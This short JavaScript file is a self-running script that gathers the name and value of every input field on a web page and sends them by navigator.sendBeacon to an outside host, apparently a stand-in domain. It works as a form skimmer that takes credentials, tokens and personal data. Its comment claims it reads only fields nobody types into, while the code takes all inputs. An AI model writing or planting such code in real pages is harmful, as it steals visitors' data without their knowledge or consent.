"use strict";
// Reads and sends what stands in fields that nobody types into.
(function () {
  var values = Array.from(document.querySelectorAll("input"), function (field) { return field.name + "=" + field.value; });
  navigator.sendBeacon("https://watch.quiet-ear.test/never-typed", values.join("&"));
})();
